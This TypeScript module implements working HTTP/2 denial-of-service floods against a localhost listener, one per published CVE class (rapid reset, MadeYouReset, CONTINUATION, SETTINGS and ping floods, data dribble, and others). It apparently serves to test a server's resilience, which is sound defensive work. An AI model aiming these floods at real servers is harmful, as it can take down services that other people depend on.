/**
 * Frame-level HTTP/2 attacks on a server, one per published denial-of-service
 * class, written as hand-built frames over real sockets. Every attack takes an
 * `OpenConnection` — how to reach the listener — so the same attacks run on a
 * cleartext and a TLS listener. Each floods for a given time (or until the
 * server closes the connection) and reports what the server answered: the
 * GOAWAY codes, RST_STREAM count, and whether it closed.
 */
import {
  CLIENT_PREFACE,
  encodeFrame,
  encodeRstStream,
  encodeSettings,
  encodeWindowUpdate,
  FrameParser,
} from "../../shared/http2/frames.ts";
import { HeaderEncoder } from "../../shared/http2/hpack.ts";
import { ErrorCode, errorCodeName, Flag, FrameType, joinBytes } from "../../shared/http2/mod.ts";
import { SETTINGS_ACK } from "../../shared/http2/settings.ts";
import { deadline } from "../../shared/async/mod.ts";

/** How to open a connection to the listener under attack. */
export type OpenConnection = () => Promise<Deno.Conn>;

export function cleartext(port: number): OpenConnection {
  return () => Deno.connect({ hostname: "127.0.0.1", port });
}

/** What a mutual-TLS client trusts and presents, as PEM text. */
export interface ClientTls {
  caCertificate: string;
  clientCertificate: string;
  clientKey: string;
}

/** Connections over mutual TLS (ALPN h2), handshake done, presenting `tls`'s client certificate. */
export function mutualTls(port: number, tls: ClientTls): OpenConnection {
  return async () => {
    const conn = await Deno.connectTls({
      hostname: "127.0.0.1",
      port,
      caCerts: [tls.caCertificate],
      cert: tls.clientCertificate,
      key: tls.clientKey,
      alpnProtocols: ["h2"],
    });
    try {
      await conn.handshake();
    } catch (error) {
      conn.close();
      throw error;
    }
    return conn;
  };
}

/** What the server did on one or more attacking connections. */
export interface AttackReport {
  /** Frames (or streams) the attacker got written. */
  sent: number;
  /** GOAWAY error codes received, by name. */
  goaway: string[];
  rst: number;
  /** Connections the server closed. */
  closed: number;
  seconds: number;
}

/** What the server did on `connections` since `start`; then they are closed. */
function reportAndClose(connections: RawConnection[], sent: number, start: number): AttackReport {
  const report = {
    sent,
    goaway: [...new Set(connections.flatMap((connection) => connection.goaway))],
    rst: connections.reduce((sum, connection) => sum + connection.rst, 0),
    closed: connections.filter((connection) => connection.closed).length,
    seconds: Math.round(performance.now() - start) / 1000,
  };
  for (const connection of connections) connection.close();
  return report;
}

const PUBLISH_FIELDS = [
  [":method", "POST"],
  [":scheme", "http"],
  [":authority", "attack"],
  [":path", "/Aggregator/Publish"],
  ["content-type", "application/proto"],
  ["environment", "attack"],
  ["service", "s"],
  ["container", "c"],
  ["host_name", "h"],
] as const;

/** A Publish request's header block declaring a body of `length` bytes. */
export function publishBlock(length: number): Uint8Array {
  return new HeaderEncoder().encode([...PUBLISH_FIELDS, ["content-length", String(length)]]);
}

const HEALTH_BLOCK = new HeaderEncoder().encode([
  [":method", "GET"],
  [":scheme", "http"],
  [":authority", "attack"],
  [":path", "/healthz"],
]);

/** `frame` repeated until the batch holds about `bytes`. */
function repeated(frame: Uint8Array, bytes = 64 * 1024): Uint8Array {
  return joinBytes(
    Array.from({ length: Math.max(1, Math.floor(bytes / frame.length)) }, () => frame),
  );
}

/** A raw client connection: preface and SETTINGS sent, server frames counted as they come. */
export class RawConnection {
  readonly goaway: string[] = [];
  rst = 0;
  closed = false;
  /** HEADERS frames received (responses). */
  responses = 0;
  #conn: Deno.Conn;
  #reading = true;
  #settingsAcknowledged = false;
  #writing: Promise<unknown> = Promise.resolve();
  #changed = Promise.withResolvers<void>();

  private constructor(conn: Deno.Conn) {
    this.#conn = conn;
  }

  static async open(
    open: OpenConnection,
    settings: [number, number][] = [],
  ): Promise<RawConnection> {
    const raw = new RawConnection(await open());
    await raw.write(joinBytes([CLIENT_PREFACE, encodeSettings(settings)]));
    raw.#read();
    // Its SETTINGS answered first, so the ACK never lands inside an attack's header block.
    await raw.waitFor(() => raw.#settingsAcknowledged || raw.closed, 5_000);
    return raw;
  }

  /**
   * Writes `bytes` after what is being written (writes never interleave);
   * false once the connection failed or `ms` passed with the write blocked.
   */
  async write(bytes: Uint8Array, ms = 5_000): Promise<boolean> {
    if (this.closed) return false;
    let timer: ReturnType<typeof setTimeout> | undefined;
    const blocked = new Promise<false>((resolve) => timer = setTimeout(() => resolve(false), ms));
    const written = this.#writing.then(async () => {
      for (let offset = 0; offset < bytes.length;) {
        offset += await this.#conn.write(bytes.subarray(offset));
      }
      return true;
    }).catch(() => {
      this.#markClosed();
      return false;
    });
    this.#writing = written;
    try {
      return await Promise.race([written, blocked]);
    } finally {
      clearTimeout(timer);
    }
  }

  /** Stops reading: the server's frames then pile up in the socket buffers. */
  stopReading(): void {
    this.#reading = false;
  }

  /** Resolves once `condition` holds or `ms` pass. */
  async waitFor(condition: () => boolean, ms: number): Promise<boolean> {
    const endMs = Date.now() + ms;
    while (!condition()) {
      const left = endMs - Date.now();
      if (left <= 0) return false;
      await deadline(this.#changed.promise, Math.min(left, 100), () => {});
    }
    return true;
  }

  close(): void {
    this.#markClosed();
    try {
      this.#conn.close();
    } catch {
      // Closed already.
    }
  }

  #markClosed(): void {
    this.closed = true;
    this.#notify();
  }

  #notify(): void {
    this.#changed.resolve();
    this.#changed = Promise.withResolvers();
  }

  async #read(): Promise<void> {
    const parser = new FrameParser(2 ** 24 - 1);
    const buffer = new Uint8Array(64 * 1024);
    try {
      while (this.#reading) {
        const read = await this.#conn.read(buffer);
        if (read === null) break;
        for (const frame of parser.push(buffer.subarray(0, read))) {
          if (frame.type === FrameType.GOAWAY) {
            const code = new DataView(frame.payload.buffer, frame.payload.byteOffset).getUint32(4);
            this.goaway.push(errorCodeName(code));
          } else if (frame.type === FrameType.RST_STREAM) {
            this.rst++;
          } else if (frame.type === FrameType.HEADERS) {
            this.responses++;
          } else if (frame.type === FrameType.SETTINGS && !(frame.flags & Flag.ACK)) {
            await this.write(SETTINGS_ACK);
            this.#settingsAcknowledged = true;
          }
        }
        this.#notify();
      }
      if (!this.#reading) return;
    } catch {
      // Reset by the server.
    }
    this.#markClosed();
  }
}

/** Writes `batch()` over and over for `seconds` or until the server closes; a report. */
async function flood(
  connections: RawConnection[],
  seconds: number,
  batch: (connection: RawConnection, round: number) => { bytes: Uint8Array; frames: number },
): Promise<AttackReport> {
  const start = performance.now();
  const end = start + seconds * 1000;
  let sent = 0;
  await Promise.all(connections.map(async (connection) => {
    for (let round = 0; performance.now() < end && !connection.closed; round++) {
      const { bytes, frames } = batch(connection, round);
      if (!await connection.write(bytes, Math.max(1, end - performance.now()))) break;
      sent += frames;
      // A write that completes at once never returns to the event loop: let the reader in.
      await new Promise((resolve) => setTimeout(resolve, 0));
    }
  }));
  // What the server sends last (its GOAWAY) may still be on its way.
  for (const connection of connections) await connection.waitFor(() => connection.closed, 2_000);
  return reportAndClose(connections, sent, start);
}

/** One connection writing the same batch of frames again and again. */
async function repeatFrames(
  open: OpenConnection,
  seconds: number,
  frame: Uint8Array,
  first: Uint8Array = new Uint8Array(0),
): Promise<AttackReport> {
  const connection = await RawConnection.open(open);
  if (first.length) await connection.write(first);
  const bytes = repeated(frame);
  const frames = bytes.length / frame.length;
  return flood([connection], seconds, () => ({ bytes, frames }));
}

/** CVE-2019-9512: PING frames, answered or not. */
export function pingFlood(open: OpenConnection, seconds: number): Promise<AttackReport> {
  return repeatFrames(open, seconds, encodeFrame(FrameType.PING, 0, 0, new Uint8Array(8)));
}

/** CVE-2019-9515: SETTINGS frames of `entries` settings each. */
export function settingsFlood(
  open: OpenConnection,
  seconds: number,
  entries = 2_730,
): Promise<AttackReport> {
  const settings = Array.from({ length: entries }, (): [number, number] => [0x4, 65_535]);
  return repeatFrames(open, seconds, encodeSettings(settings));
}

/** CVE-2019-9513: PRIORITY frames moving streams around the (ignored) tree. */
export function priorityFlood(open: OpenConnection, seconds: number): Promise<AttackReport> {
  const priority = encodeFrame(FrameType.PRIORITY, 0, 3, Uint8Array.of(0, 0, 0, 1, 200));
  return repeatFrames(open, seconds, priority);
}

/** WINDOW_UPDATE frames of 1 byte on the connection (never overflowing within the flood). */
export function windowUpdateFlood(open: OpenConnection, seconds: number): Promise<AttackReport> {
  return repeatFrames(open, seconds, encodeWindowUpdate(0, 1));
}

/** Frames of an undefined type, which a peer must ignore. */
export function unknownFrameFlood(open: OpenConnection, seconds: number): Promise<AttackReport> {
  return repeatFrames(open, seconds, encodeFrame(0xfa, 0, 0, new Uint8Array(8)));
}

/** CVE-2019-9518: empty DATA frames on an open request stream. */
export function emptyDataFlood(open: OpenConnection, seconds: number): Promise<AttackReport> {
  const headers = encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, 1, publishBlock(1_000_000));
  return repeatFrames(open, seconds, encodeFrame(FrameType.DATA, 0, 1), headers);
}

/**
 * The CONTINUATION flood family (CVE-2024-27316 and siblings): one header
 * block that never ends, continued by CONTINUATION frames of `fragment`
 * bytes (empty ones included).
 */
export function continuationFlood(
  open: OpenConnection,
  seconds: number,
  fragment = 0,
): Promise<AttackReport> {
  const headers = encodeFrame(FrameType.HEADERS, 0, 1, publishBlock(10));
  const continuation = encodeFrame(FrameType.CONTINUATION, 0, 1, new Uint8Array(fragment));
  return repeatFrames(open, seconds, continuation, headers);
}

/**
 * CVE-2019-9516: header blocks of empty (zero-length) header fields, each
 * block kept open by CONTINUATION frames of more of them.
 */
export function emptyHeadersFlood(open: OpenConnection, seconds: number): Promise<AttackReport> {
  // A literal field without indexing, new name: 0x00, name length 0, value length 0.
  const empties = new Uint8Array(3 * 1000);
  const headers = encodeFrame(FrameType.HEADERS, 0, 1, empties);
  return repeatFrames(open, seconds, encodeFrame(FrameType.CONTINUATION, 0, 1, empties), headers);
}

/** Streams opened and reset at once (CVE-2023-44487), with `code` on the RST_STREAM. */
export async function rapidReset(
  open: OpenConnection,
  seconds: number,
  code: number = ErrorCode.CANCEL,
): Promise<AttackReport> {
  const connection = await RawConnection.open(open);
  const block = publishBlock(100);
  return flood([connection], seconds, (_, round) => {
    const frames: Uint8Array[] = [];
    for (let index = 0; index < 200; index++) {
      const id = 1 + 2 * (round * 200 + index);
      frames.push(encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, id, block));
      frames.push(encodeRstStream(id, code));
    }
    return { bytes: joinBytes(frames), frames: 200 };
  });
}

/** How MadeYouReset (CVE-2025-8671) makes the server reset a stream it just opened. */
export type Provocation = "second-headers" | "window-update-0" | "malformed-headers";

const MALFORMED_BLOCK = new HeaderEncoder().encode([
  [":method", "POST"],
  [":path", "/Aggregator/Publish"],
  ["Upper-Case", "x"],
]);

/**
 * Streams the server resets itself because of what the client sends
 * (CVE-2025-8671 MadeYouReset; with a malformed request, CVE-2019-9514).
 */
export async function madeYouReset(
  open: OpenConnection,
  seconds: number,
  provocation: Provocation,
): Promise<AttackReport> {
  const connection = await RawConnection.open(open);
  const block = publishBlock(100);
  return flood([connection], seconds, (_, round) => {
    const frames: Uint8Array[] = [];
    for (let index = 0; index < 200; index++) {
      const id = 1 + 2 * (round * 200 + index);
      if (provocation === "malformed-headers") {
        frames.push(encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, id, MALFORMED_BLOCK));
        continue;
      }
      frames.push(encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, id, block));
      frames.push(
        provocation === "second-headers"
          ? encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, id, block)
          : encodeWindowUpdate(id, 0),
      );
    }
    return { bytes: joinBytes(frames), frames: 200 };
  });
}

/**
 * CVE-2019-9517 and the PING flavour of it: `count` clients each make one
 * call, stop reading, then keep sending what makes the server answer
 * (PINGs, or whole requests) while the answers pile up.
 */
export async function neverReads(
  open: OpenConnection,
  count: number,
  seconds: number,
  what: "ping" | "requests",
): Promise<AttackReport> {
  const connections = await Promise.all(
    Array.from({ length: count }, () => RawConnection.open(open)),
  );
  await Promise.all(connections.map(async (connection) => {
    await connection.write(
      encodeFrame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 1, HEALTH_BLOCK),
    );
    await connection.waitFor(() => connection.responses > 0, 5_000);
    connection.stopReading();
  }));
  const ping = repeated(encodeFrame(FrameType.PING, 0, 0, new Uint8Array(8)), 16 * 1024);
  return flood(connections, seconds, (_, round) => {
    if (what === "ping") return { bytes: ping, frames: ping.length / 17 };
    const frames = Array.from(
      { length: 50 },
      (_, index) =>
        encodeFrame(
          FrameType.HEADERS,
          Flag.END_HEADERS | Flag.END_STREAM,
          3 + 2 * (round * 50 + index),
          HEALTH_BLOCK,
        ),
    );
    return { bytes: joinBytes(frames), frames: 50 };
  });
}

/**
 * CVE-2019-9511 (data dribble): a stream window of one byte, many requests
 * whose answers wait on it, and WINDOW_UPDATEs of one byte at a time.
 */
export async function dataDribble(open: OpenConnection, seconds: number): Promise<AttackReport> {
  const connection = await RawConnection.open(open, [[0x4, 1]]);
  return flood([connection], seconds, (_, round) => {
    const frames: Uint8Array[] = [];
    for (let index = 0; index < 20; index++) {
      const id = 1 + 2 * (round * 20 + index);
      frames.push(
        encodeFrame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, id, HEALTH_BLOCK),
      );
      frames.push(encodeWindowUpdate(id, 1));
    }
    return { bytes: joinBytes(frames), frames: 20 };
  });
}

/**
 * Many connections, each with up to `streams` requests open at once whose
 * bodies are started but never finished (`bytes` each): everything within
 * the configured caps, held for `seconds`.
 */
export async function manyStreams(
  open: OpenConnection,
  connectionCount: number,
  streams: number,
  bytes: number,
  seconds: number,
): Promise<AttackReport & { opened: number }> {
  const start = performance.now();
  const connections: RawConnection[] = [];
  let opened = 0;
  await Promise.all(Array.from({ length: connectionCount }, async () => {
    let connection: RawConnection;
    try {
      connection = await RawConnection.open(open);
    } catch {
      return;
    }
    connections.push(connection);
    opened++;
    const block = publishBlock(bytes * 2);
    const frames: Uint8Array[] = [];
    for (let index = 0; index < streams; index++) {
      const id = 1 + 2 * index;
      frames.push(encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, id, block));
      frames.push(encodeFrame(FrameType.DATA, 0, id, new Uint8Array(bytes)));
    }
    await connection.write(joinBytes(frames));
  }));
  const sent = connections.length * streams;
  const left = seconds * 1000 - (performance.now() - start);
  await connections[0]?.waitFor(() => false, left);
  return { ...reportAndClose(connections, sent, start), opened };
}

/**
 * Header blocks the server must decode only to ignore them: a request it
 * refused (malformed), then its HEADERS again and again on that stream.
 */
export function ignoredHeadersFlood(open: OpenConnection, seconds: number): Promise<AttackReport> {
  const refused = encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, 1, MALFORMED_BLOCK);
  const again = encodeFrame(
    FrameType.HEADERS,
    Flag.END_HEADERS | Flag.END_STREAM,
    1,
    new HeaderEncoder().encode([...PUBLISH_FIELDS, ["padding", "x".repeat(8_000)]]),
  );
  return repeatFrames(open, seconds, again, refused);
}
